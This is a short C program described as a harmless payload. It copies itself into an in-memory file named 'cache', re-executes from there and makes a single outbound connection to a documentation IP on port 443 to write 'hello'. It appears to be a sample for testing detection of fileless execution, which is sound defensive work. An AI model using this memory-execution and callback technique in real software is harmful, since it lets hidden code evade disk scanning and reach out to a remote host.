/* A harmless payload that goes on from memory: copies itself into a memfd, executes that, which connects to the sink once. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

int main(int argc, char **argv) {
  if (argc > 1 && !strcmp(argv[1], "-")) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
    inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return connect(fd, (struct sockaddr *)&to, sizeof to) == 0 && write(fd, "hello\n", 6) == 6 ? 0 : 1;
  }
  int self = open(argv[0], O_RDONLY); /* /proc/self/exe would be the loader */
  int copy = memfd_create("cache", MFD_CLOEXEC);
  char block[4096];
  for (ssize_t n; (n = read(self, block, sizeof block)) > 0;)
    if (write(copy, block, n) != n) return 1;
  char *args[] = {"cache", "-", NULL};
  fexecve(copy, args, environ);
  return 1;
}
